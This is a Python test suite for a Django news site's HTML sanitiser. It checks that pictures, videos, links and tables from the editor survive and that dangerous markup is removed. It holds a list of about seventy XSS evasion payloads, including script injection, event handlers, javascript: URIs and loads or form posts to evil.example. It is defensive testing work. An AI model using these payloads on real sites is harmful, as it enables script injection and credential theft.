"""The one door for rich text: what it lets in, what it drops, and that it changes nothing the second time.

The attacks follow the OWASP Cross Site Scripting Filter Evasion Cheat Sheet, written anew for our markup.
"""

import html5lib
from django.core.exceptions import ValidationError
from django.test import SimpleTestCase
from hypothesis import given, settings
from hypothesis import strategies as st

from news.models import Article
from publishing import richtext
from publishing.richtext import ATTRIBUTES, CLASSES, TAGS, URL_SCHEMES, VIDEO_BEHAVIOUR, sanitise

ATTACKS = [
    "<script>alert(1)</script>",
    "<SCRIPT SRC=https://evil.example/x.js></SCRIPT>",
    "<scr<script>ipt>alert(1)</scr</script>ipt>",
    "<script/x>alert(1)</script >",
    "<<script>alert(1);//<</script>",
    '<img src="x" onerror="alert(1)">',
    "<img src=/files/1/480.webp onload=alert(1)>",
    "<IMG SRC=JaVaScRiPt:alert(1)>",
    '<img src="jav&#x09;ascript:alert(1);">',
    '<img src="&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;:alert(1)">',
    '<img """><script>alert(1)</script>">',
    '<img alt="&gt;<script>alert(1)</script>">',
    '<img alt="`><script>alert(1)</script>`">',
    '<img src="data:image/svg+xml;base64,PHN2Zz48L3N2Zz4=">',
    '<img src="data:text/html,<script>alert(1)</script>">',
    '<img src="//evil.example/track.png">',
    '<img src="https://evil.example/track.png">',
    '<img src="/files/../accounts/logout/">',
    '<img src="/files/1/480.webp/../../../admin/">',
    '<img src="\\\\evil.example\\x.png">',
    '<img srcset="https://evil.example/x.png 2x" src="/files/1/480.webp">',
    '<a href="javascript:alert(1)">x</a>',
    '<a href=" java\nscript:alert(1)">x</a>',
    '<a href="&#1;javascript:alert(1)">x</a>',
    '<a href="vbscript:msgbox(1)">x</a>',
    '<a href="data:text/html;base64,PHNjcmlwdD4=">x</a>',
    '<a href="https://example.org" onclick="alert(1)" target="_blank" style="x">x</a>',
    '<a title="<img src=x onerror=alert(1)>">x</a>',
    '<p style="background:url(javascript:alert(1))">x</p>',
    '<p class="unindented evil" id="header">x</p>',
    '<div style="width:expression(alert(1))">x</div>',
    "<style>@import 'https://evil.example/x.css';</style>",
    '<link rel="stylesheet" href="https://evil.example/x.css">',
    '<meta http-equiv="refresh" content="0;url=javascript:alert(1)">',
    '<base href="https://evil.example/">',
    '<iframe src="https://evil.example/"></iframe>',
    '<object data="https://evil.example/x.swf"></object>',
    '<embed src="https://evil.example/x.swf">',
    '<form action="https://evil.example/"><input name="password"><button>x</button></form>',
    '<svg onload="alert(1)"><script>alert(1)</script></svg>',
    "<svg><animate onbegin=alert(1) attributeName=x dur=1s>",
    '<math><mtext><table><mglyph><style><img src=x onerror="alert(1)">',
    '<math><a xlink:href="javascript:alert(1)">x</a></math>',
    '<noscript><p title="</noscript><img src=x onerror=alert(1)>"></noscript>',
    "<![CDATA[<script>alert(1)</script>]]>",
    "<!--[if gte IE 4]><script>alert(1)</script><![endif]-->",
    "<!-- --!><img src=x onerror=alert(1)> -->",
    "<?xml version='1.0'?><script>alert(1)</script>",
    "<template><script>alert(1)</script></template>",
    '<textarea><img title="</textarea><img src=x onerror=alert(1)>"></textarea>',
    "<title><img src=x onerror=alert(1)></title>",
    "<xss onpointerenter=alert(1)>x</xss>",
    "<p\x00 onclick=alert(1)>x</p>",
    "<\x00script>alert(1)</script>",
    '<td background="javascript:alert(1)">x</td>',
    '<table background="javascript:alert(1)"><td onmouseover=alert(1)>x</table>',
    '<ol start="1 onclick=alert(1)"><li>x</ol>',
    '<img src="/files/1/480.webp" width="100%" height="9e9" role="alert">',
    "<marquee onstart=alert(1)>x</marquee>",
    "<details open ontoggle=alert(1)>x</details>",
    "<p>x</p" + "<b>" * 300,
    '<video src="https://evil.example/x.mp4" autoplay></video>',
    '<video src="/files/1/video.mp4" onplay="alert(1)" autoplay loop muted crossorigin style="x"></video>',
    '<video src="/files/1/video.mp4" poster="javascript:alert(1)"></video>',
    '<video src="/files/1/video.mp4" poster="/files/1/../../admin/"></video>',
    '<video src="/files/1/video.mp4/../../../admin/"></video>',
    '<video><source src="https://evil.example/x.mp4"><track src="https://evil.example/x.vtt"></video>',
    '<video src="/files/1/video.mp4"><video src="/files/2/video.mp4"><script>alert(1)</script>',
    '<figure class="video evil"><video src="data:video/mp4;base64,AAAA" aria-label="&quot;><script>x"></video></figure>',
    '<audio src="/files/1/video.mp4" autoplay></audio>',
]


def problems(html):
    """Return what ``html`` holds that our editor cannot produce, as a browser would parse it (list of str)."""
    found = []
    for element in html5lib.parseFragment(html, namespaceHTMLElements=False).iter():
        if element.tag == "DOCUMENT_FRAGMENT":
            continue
        if element.tag not in TAGS:
            found.append(f"<{element.tag}>")
            continue
        for name, value in element.attrib.items():
            if name == "class":
                found += [f"class {word}" for word in value.split() if word not in CLASSES.get(element.tag, ())]
            elif name == "rel":
                found += [f"rel={value}"] if value != "noopener" else []
            elif element.tag == "video" and VIDEO_BEHAVIOUR.get(name) == value:
                continue
            elif (
                name not in ATTRIBUTES.get(element.tag, ())
                or name in ("src", "poster")
                and not value.startswith("/files/")
            ):
                found.append(f"{name}={value}")
            elif name == "href" and value.partition("/")[0].rpartition(":")[0].lower() not in {"", *URL_SCHEMES}:
                found.append(f"href={value}")
    return found


class AttackTests(SimpleTestCase):
    def test_no_attack_comes_through(self):
        for attack in ATTACKS:
            for html in (attack, f"<p>前{attack}后</p>", f"<table><tr><td>{attack}</td></tr></table>"):
                with self.subTest(html=html):
                    self.assertEqual(problems(sanitise(html)), [])

    def test_the_second_time_nothing_changes(self):
        for attack in ATTACKS:
            with self.subTest(attack=attack):
                self.assertEqual(sanitise(sanitise(attack)), sanitise(attack))

    @settings(max_examples=300, deadline=None)
    @given(
        st.lists(
            st.one_of(
                st.sampled_from(ATTACKS),
                st.sampled_from([f"<{tag}>" for tag in sorted(TAGS)] + [f"</{tag}>" for tag in sorted(TAGS)]),
                st.text("<>\"'=/ &;质量月\n!-[]", max_size=8),
            ),
            max_size=8,
        ).map("".join)
    )
    def test_no_mixture_of_markup_comes_through_or_changes_twice(self, html):
        cleaned = sanitise(html)
        self.assertEqual(problems(cleaned), [])
        self.assertEqual(sanitise(cleaned), cleaned)


class KeptTests(SimpleTestCase):
    """What the editor produces stays as it is."""

    def assert_kept(self, html):
        self.assertEqual(sanitise(html), html)

    def test_paragraphs_headings_and_lists_stay(self):
        self.assert_kept('<h2>一、活动内容</h2><p class="unindented">各会员单位：</p><p class="right">2026年9月1日</p>')
        self.assert_kept('<ol start="3"><li>第三项<ul><li>其中</li></ul></li></ol>')

    def test_a_table_in_a_table_stays(self):
        inner = '<table><tbody><tr><td class="right">1</td></tr></tbody></table>'
        self.assert_kept(f'<table><tbody><tr><th scope="row">甲</th><td colspan="2">{inner}</td></tr></tbody></table>')

    def test_our_pictures_stay_with_caption_and_size(self):
        picture = '<img alt="升旗仪式现场" height="500" src="/files/12/960.webp" width="800">'
        self.assertEqual(problems(picture), [])
        kept = sanitise(f'<figure class="captioned">{picture}<figcaption>图一</figcaption></figure>')
        for part in ('class="captioned"', 'src="/files/12/960.webp"', 'width="800"', "<figcaption>图一</figcaption>"):
            self.assertIn(part, kept)

    def test_a_picture_of_another_host_goes_whole(self):
        self.assertEqual(sanitise('<p>前<img alt="a > b" src="https://evil.example/x.png">后</p>'), "<p>前后</p>")

    def test_links_stay_and_cannot_reach_our_window(self):
        self.assertEqual(
            sanitise('<a href="https://www.example.org/a?b=1&amp;c=2">链接</a>'),
            '<a href="https://www.example.org/a?b=1&amp;c=2" rel="noopener">链接</a>',
        )
        for address in ("/notices/12/", "mailto:a@example.org", "tel:021-12345678", "#note"):
            self.assertIn(f'href="{address}"', sanitise(f'<a href="{address}">链接</a>'))

    def test_text_alone_stays(self):
        self.assert_kept("质量月")
        self.assertEqual(sanitise(""), "")
        self.assertEqual(sanitise(None), "")
        self.assertEqual(sanitise("1 < 2 & 3"), "1 &lt; 2 &amp; 3")

    def test_an_endless_text_is_refused(self):
        with self.assertRaises(ValueError):
            sanitise("质" * (richtext.MAX_LENGTH + 1))
        with self.assertRaises(ValidationError):
            richtext.RichTextFormField().clean("质" * (richtext.MAX_LENGTH + 1))


class PictureTests(SimpleTestCase):
    def test_a_picture_says_what_it_shows_or_that_it_is_decorative(self):
        source = 'src="/files/1/480.webp"'
        for attributes, is_undescribed in {
            "": True,
            'alt=""': True,
            'alt=" "': True,
            'alt="升旗仪式"': False,
            'alt="" role="presentation"': False,
            'alt="a > b"': False,
        }.items():
            with self.subTest(attributes=attributes):
                html = sanitise(f"<p>文字</p><p><img {source} {attributes}></p>")
                self.assertEqual(richtext.has_undescribed_picture(html), is_undescribed)

    def test_one_of_many_is_enough(self):
        described = '<img src="/files/1/480.webp" alt="升旗仪式">'
        self.assertTrue(richtext.has_undescribed_picture(sanitise(described + '<img src="/files/2/480.webp">')))
        self.assertFalse(richtext.has_undescribed_picture(sanitise(described * 2)))


class VideoTests(SimpleTestCase):
    ATTRIBUTES = 'src="/files/3/video.mp4" poster="/files/4/960.jpg" aria-label="升旗仪式" width="640" height="360"'
    KEPT = f'<figure class="video"><video {ATTRIBUTES} controls="" preload="none"></video></figure>'

    def test_a_video_of_the_library_stays_and_waits_for_its_reader(self):
        self.assertEqual(problems(self.KEPT), [])
        self.assertEqual(sanitise(self.KEPT), self.KEPT)
        loud = f'<figure class="video"><video {self.ATTRIBUTES} autoplay loop muted preload="auto"></video></figure>'
        self.assertEqual(sanitise(loud), self.KEPT)

    def test_what_the_editor_adds_to_its_frame_goes(self):
        for filler in ("\n", "&nbsp;", "\n&nbsp;\n", "<br>"):
            self.assertEqual(sanitise(self.KEPT.replace("</video>", f"</video>{filler}")), self.KEPT)

    def test_a_video_of_another_host_goes_with_its_frame(self):
        self.assertEqual(
            sanitise('<p>前</p><figure class="video"><video src="https://x.example/1.mp4"></figure>'), "<p>前</p>"
        )

    def test_a_video_that_is_not_closed_hides_nothing_of_the_text(self):
        self.assertEqual(
            sanitise('<video src="/files/3/video.mp4"><p>后文</p>'),
            '<video src="/files/3/video.mp4" controls="" preload="none"></video><p>后文</p>',
        )

    def test_a_video_says_what_it_shows_and_has_a_poster(self):
        self.assertFalse(richtext.has_unfinished_video(self.KEPT))
        for lacking in (' aria-label="升旗仪式"', ' poster="/files/4/960.jpg"'):
            self.assertTrue(richtext.has_unfinished_video(sanitise(self.KEPT.replace(lacking, ""))))
        blank = self.KEPT.replace("升旗仪式", " ")
        self.assertTrue(richtext.has_unfinished_video(sanitise(blank)))

    def test_a_video_and_its_poster_are_files_of_the_text(self):
        self.assertEqual(richtext.asset_pks(self.KEPT), {3, 4})

    def test_paper_says_what_the_video_shows(self):
        html = richtext.with_printed_videos(self.KEPT, "视频：%s。")
        self.assertIn('</video><span class="on-paper">视频：升旗仪式。</span>', html)


class FieldTests(SimpleTestCase):
    def test_the_form_and_the_model_sanitise(self):
        dirty = "<p>样例<script>alert(1)</script></p>"
        self.assertEqual(Article._meta.get_field("body").formfield().clean(dirty), "<p>样例</p>")
        article = Article(body=dirty)
        self.assertEqual(Article._meta.get_field("body").pre_save(article, add=True), "<p>样例</p>")
        self.assertEqual(article.body, "<p>样例</p>")


class EditorTests(SimpleTestCase):
    def test_the_editor_keeps_what_the_sanitiser_keeps(self):
        rules = {rule.split("[")[0].split("(")[0]: rule for rule in richtext.editor_filter().split("; ")}
        self.assertEqual(set(rules), TAGS)
        # The last two are what the editor needs of a picture while it is being uploaded.
        self.assertEqual(rules["img"], "img[alt,data-cke-upload-id,data-widget,height,role,!src,width]")
        self.assertEqual(rules["video"], "video[aria-label,controls,height,poster,preload,!src,width]")
        self.assertEqual(rules["td"], "td[colspan,rowspan](centred,right)")

    def test_its_script_stands_after_the_editor_in_one_list(self):
        scripts = [str(script) for script in richtext.CKEditorWidget().media._js_lists[0]]
        self.assertEqual(len(richtext.CKEditorWidget().media._js_lists), 1)
        self.assertLess(
            next(place for place, script in enumerate(scripts) if "ckeditor/ckeditor.js" in script),
            next(place for place, script in enumerate(scripts) if "admin/editor.js" in script),
        )
